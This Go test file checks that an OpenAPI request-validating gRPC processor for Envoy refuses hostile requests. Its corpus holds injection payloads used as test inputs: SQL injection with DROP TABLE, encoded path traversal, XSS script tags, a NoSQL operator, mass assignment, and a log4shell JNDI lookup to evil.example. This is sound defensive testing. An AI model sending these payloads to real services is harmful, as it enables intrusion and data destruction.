package openapi

import (
	"encoding/json"
	"strings"
	"testing"
)

const (
	jsonCT   = "application/json"
	validPet = `{"id":10,"name":"doggie","category":{"id":1,"name":"Dogs"},"photoUrls":["https://img.example/1.png"],"tags":[{"id":1,"name":"friendly"}],"status":"available"}`
)

func ct(v string) [][2]string { return [][2]string{{"content-type", v}} }

// kindsHeaders are valid header and cookie values for kinds.yaml; a case
// replaces one of them with a hostile one.
func kindsHeaders(version, cookie string) [][2]string {
	return [][2]string{{"content-type", jsonCT}, {"x-client-version", version}, {"cookie", "session=" + cookie}}
}

const (
	goodVersion = "2.1"
	goodSession = "abcdefghijklmnop1234"
	notes       = "/accounts/acme-1/notes"
)

// corpusCase is one request and the verdict: want 0 is forwarded,
// otherwise the status of the refusal and where the problem points.
type corpusCase struct {
	name     string
	policy   string
	r        req
	want     int
	location string
	field    string
}

func deep(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }

var corpus = []corpusCase{
	// Petstore: valid requests are forwarded.
	{"get pet", "petstore", req{method: "GET", path: "/api/v3/pet/10"}, 0, "", ""},
	{"find by status", "petstore", req{method: "GET", path: "/api/v3/pet/findByStatus?status=sold"}, 0, "", ""},
	{"find by tags, repeated array param", "petstore", req{method: "GET", path: "/api/v3/pet/findByTags?tags=a&tags=b"}, 0, "", ""},
	{"add pet json", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(validPet)}, 0, "", ""},
	{"add pet json with charset", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct("application/json; charset=utf-8"), body: []byte(validPet)}, 0, "", ""},
	{"update pet with form", "petstore", req{method: "POST", path: "/api/v3/pet/10?name=rex&status=sold"}, 0, "", ""},
	{"upload image", "petstore", req{method: "POST", path: "/api/v3/pet/10/uploadImage?additionalMetadata=x", headers: ct("application/octet-stream"), body: []byte{0x89, 'P', 'N', 'G', 0, 1, 2}}, 0, "", ""},
	{"delete pet with api_key header", "petstore", req{method: "DELETE", path: "/api/v3/pet/10", headers: [][2]string{{"api_key", "secret"}}}, 0, "", ""},
	{"login", "petstore", req{method: "GET", path: "/api/v3/user/login?username=u&password=p"}, 0, "", ""},
	{"order", "petstore", req{method: "POST", path: "/api/v3/store/order", headers: ct(jsonCT), body: []byte(`{"id":1,"petId":10,"quantity":2,"shipDate":"2026-12-04T16:00:00Z","status":"placed","complete":false}`)}, 0, "", ""},
	{"percent-encoded digits decode to a valid id", "petstore", req{method: "GET", path: "/api/v3/pet/%31%30"}, 0, "", ""},
	// Petstore: path parameter injections.
	{"path sqli", "petstore", req{method: "GET", path: "/api/v3/pet/1%20OR%201=1"}, 400, "path", "petId"},
	{"path stacked query", "petstore", req{method: "GET", path: "/api/v3/pet/10;DROP%20TABLE%20pets"}, 400, "path", "petId"},
	{"order id union", "petstore", req{method: "GET", path: "/api/v3/store/order/-1%20UNION%20SELECT%20password%20FROM%20users"}, 400, "path", "orderId"},
	{"path overflow", "petstore", req{method: "GET", path: "/api/v3/pet/99999999999999999999999"}, 400, "path", "petId"},
	// Percent-encoded tricks: the path is matched decoded, so an encoded
	// slash or dot-dot cannot reach an operation the document lacks.
	{"encoded traversal", "petstore", req{method: "GET", path: "/api/v3/pet/1%2F..%2F..%2Fstore%2Finventory"}, 404, "path", ""},
	{"encoded dot-dot out of the base path", "petstore", req{method: "GET", path: "/api/v3/%2e%2e/admin"}, 404, "path", ""},
	{"outside the base path", "petstore", req{method: "GET", path: "/admin/pet/10"}, 404, "path", ""},
	{"unknown path", "petstore", req{method: "GET", path: "/api/v3/pets"}, 404, "path", ""},
	{"method not allowed", "petstore", req{method: "PATCH", path: "/api/v3/pet"}, 405, "method", ""},
	{"not origin-form", "petstore", req{method: "GET", path: "http://evil.example/api/v3/pet/10"}, 400, "path", ""},
	// Petstore: query parameter injections and pollution.
	{"query enum sqli", "petstore", req{method: "GET", path: "/api/v3/pet/findByStatus?status=available%27%20OR%20%271%27=%271"}, 400, "query", "status"},
	{"query missing required", "petstore", req{method: "GET", path: "/api/v3/pet/findByStatus"}, 400, "query", "status"},
	{"query NUL byte", "petstore", req{method: "GET", path: "/api/v3/pet/findByStatus?status=sold%00"}, 400, "query", "status"},
	{"duplicate query param", "petstore", req{method: "GET", path: "/api/v3/pet/findByStatus?status=sold&status=%3Cscript%3E"}, 400, "query", "status"},
	// Petstore: bodies.
	{"body missing required", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"photoUrls":[]}`)}, 400, "body", ""},
	{"body nosql operator", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"name":{"$gt":""},"photoUrls":[]}`)}, 400, "body", "/name"},
	{"body enum injection", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"name":"a","photoUrls":[],"status":"sold' OR '1'='1"}`)}, 400, "body", "/status"},
	{"body not json", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"name":"a",`)}, 400, "body", ""},
	{"body json prototype pollution type", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"name":"a","photoUrls":"__proto__"}`)}, 400, "body", "/photoUrls"},
	{"wrong content type", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct("text/xml"), body: []byte(`<pet><name>a</name></pet>`)}, 400, "header", "content-type"},
	{"no content type", "petstore", req{method: "POST", path: "/api/v3/pet", body: []byte(validPet)}, 400, "header", "content-type"},
	{"missing body", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT)}, 400, "body", ""},
	{"empty body", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte{}}, 400, "body", ""},
	{"deep nesting", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"name":"a","photoUrls":` + deep(5000) + `}`)}, 400, "body", ""},
	{"huge body", "petstore", req{method: "POST", path: "/api/v3/pet", headers: ct(jsonCT), body: []byte(`{"name":"` + strings.Repeat("a", 70<<10) + `","photoUrls":[]}`)}, 413, "body", ""},
	{"body where the operation takes none", "petstore", req{method: "GET", path: "/api/v3/pet/10", headers: ct(jsonCT), body: []byte(`{"smuggled":true}`)}, 400, "body", ""},
	// Kinds: one hostile value per parameter kind.
	{"kinds valid", "kinds", req{method: "POST", path: notes + "?limit=10&sort=asc", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"hello","priority":2,"meta":{"a":[1,2]}}`)}, 0, "", ""},
	{"kinds percent-encoded valid query", "kinds", req{method: "POST", path: notes + "?limit=%31%30", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"hello"}`)}, 0, "", ""},
	{"path injection", "kinds", req{method: "POST", path: "/accounts/acme%27%20OR%201=1--/notes", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "path", "accountId"},
	{"path encoded slash", "kinds", req{method: "POST", path: "/accounts/acme%2F..%2Fadmin/notes", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 404, "path", ""},
	{"query injection integer", "kinds", req{method: "POST", path: notes + "?limit=1%20OR%201=1", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "query", "limit"},
	{"query injection enum", "kinds", req{method: "POST", path: notes + "?sort=asc%27%3BDROP%20TABLE%20notes", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "query", "sort"},
	{"query semicolon separator", "kinds", req{method: "POST", path: notes + "?sort=asc;DROP%20TABLE%20notes", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "query", ""},
	{"query bad escape", "kinds", req{method: "POST", path: notes + "?sort=%zz", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "query", ""},
	{"query out of range", "kinds", req{method: "POST", path: notes + "?limit=100000", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "query", "limit"},
	{"query pollution", "kinds", req{method: "POST", path: notes + "?sort=asc&sort=desc", headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x"}`)}, 400, "query", "sort"},
	{"header injection", "kinds", req{method: "POST", path: notes, headers: kindsHeaders("2.1' OR '1'='1", goodSession), body: []byte(`{"title":"x"}`)}, 400, "header", "X-Client-Version"},
	{"header log4shell", "kinds", req{method: "POST", path: notes, headers: kindsHeaders("${jndi:ldap://evil.example/a}", goodSession), body: []byte(`{"title":"x"}`)}, 400, "header", "X-Client-Version"},
	{"header given twice", "kinds", req{method: "POST", path: notes, headers: append(kindsHeaders(goodVersion, goodSession), [2]string{"x-client-version", "1' OR '1'='1"}), body: []byte(`{"title":"x"}`)}, 400, "header", "X-Client-Version"},
	{"cookie given twice", "kinds", req{method: "POST", path: notes, headers: append(kindsHeaders(goodVersion, goodSession), [2]string{"cookie", "session=x'--"}), body: []byte(`{"title":"x"}`)}, 400, "cookie", "session"},
	{"header missing", "kinds", req{method: "POST", path: notes, headers: [][2]string{{"content-type", jsonCT}, {"cookie", "session=" + goodSession}}, body: []byte(`{"title":"x"}`)}, 400, "header", "X-Client-Version"},
	{"cookie injection", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, "abcdefghijklmnop1234<script>alert(1)</script>"), body: []byte(`{"title":"x"}`)}, 400, "cookie", "session"},
	{"cookie sqli", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, "abcdefghijklmnop'--"), body: []byte(`{"title":"x"}`)}, 400, "cookie", "session"},
	{"cookie missing", "kinds", req{method: "POST", path: notes, headers: [][2]string{{"content-type", jsonCT}, {"x-client-version", goodVersion}}, body: []byte(`{"title":"x"}`)}, 400, "cookie", "session"},
	{"body xss", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"<script>alert(1)</script>"}`)}, 400, "body", "/title"},
	{"body mass assignment", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x","isAdmin":true}`)}, 400, "body", ""},
	{"body type confusion", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x","priority":"1; DROP TABLE notes"}`)}, 400, "body", "/priority"},
	{"body deep inside free-form object", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x","meta":{"a":` + deep(33) + `}}`)}, 400, "body", ""},
	{"body brackets inside strings do not count", "kinds", req{method: "POST", path: notes, headers: kindsHeaders(goodVersion, goodSession), body: []byte(`{"title":"x","meta":{"a":"` + deep(100) + `\"["}}`)}, 0, "", ""},
}

// TestCorpus drives every request of the corpus through the processor over
// real gRPC, as Envoy's ext_proc filter sends it, and checks the verdict
// and that the problem document names the failing location and field.
func TestCorpus(t *testing.T) {
	svc, err := New(testPolicies(t))
	if err != nil {
		t.Fatal(err)
	}
	c := serve(t, svc)
	for _, tc := range corpus {
		t.Run(tc.name, func(t *testing.T) {
			got := exchangeOnce(t, c, tc.policy, tc.r, nil)
			if tc.want == 0 {
				if got.refused != nil {
					t.Fatalf("refused %d: %s", got.refused.GetStatus().GetCode(), got.refused.GetBody())
				}
				return
			}
			if got.refused == nil {
				t.Fatalf("forwarded, want %d", tc.want)
			}
			if code := int(got.refused.GetStatus().GetCode()); code != tc.want {
				t.Errorf("status %d, want %d (%s)", code, tc.want, got.refused.GetBody())
			}
			var p problem
			if err := json.Unmarshal(got.refused.GetBody(), &p); err != nil {
				t.Fatalf("problem body %q: %v", got.refused.GetBody(), err)
			}
			if p.Location != tc.location || (tc.field != "" && p.Field != tc.field) {
				t.Errorf("problem points at %s %q, want %s %q (%s)", p.Location, p.Field, tc.location, tc.field, got.refused.GetBody())
			}
			if p.Detail == "" || p.Status != tc.want {
				t.Errorf("problem %+v lacks a detail or the status", p)
			}
			if field(got.metadata, "action") != "refuse" || field(got.metadata, "location") != tc.location {
				t.Errorf("metadata %v does not record the refusal", got.metadata)
			}
		})
	}
}
